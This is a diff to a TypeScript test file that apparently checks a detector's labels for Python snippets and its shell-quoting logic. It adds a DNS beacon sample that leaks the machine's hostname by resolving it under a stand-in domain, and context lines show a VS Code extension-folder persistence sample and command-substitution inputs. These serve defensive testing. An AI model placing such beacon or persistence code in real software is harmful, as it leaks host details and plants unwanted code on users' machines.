@@ -170,6 +170,16 @@ const DEEDS: readonly [situation: string, code: string, finding: string][] = [
     'persistence medium import',
   ],
   [
+    'its own name as a part of one that is looked up',
+    'import socket\nsocket.gethostbyname(f"{socket.gethostname()}.a.keeper.invalid")',
+    'host-beacon high import',
+  ],
+  [
+    'its own name, which is looked up',
+    'import socket\nsocket.gethostbyname(socket.gethostname())',
+    'host-beacon low import',
+  ],
+  [
     'a folder of extensions',
     'import os, shutil\nshutil.copytree("ext", os.path.expanduser("~/.vscode/extensions/a.b-1.0.0"))',
     'persistence medium import',
@@ -258,6 +268,7 @@ t.test('what a program is given as one word stays one, and what a shell is given
   const commands: readonly [code: string, command: string][] = [
     ['subprocess.call(["python", "-c", "import a; a.b()", "c"])', "python -c 'import a; a.b()' c"],
     ['subprocess.call(["tool", "a b", "$(c)"])', "tool a b '$(c)'"],
+    [`subprocess.call(["tool", "-e", "a('b')"])`, `tool -e "a('b')"`],
     ['subprocess.call(["sh", "-c", "a; b"])', 'sh -c a; b'],
     ['subprocess.call(["a", "|", "b"], shell=True)', 'a | b'],
     ['subprocess.call("a; b")', 'a; b'],
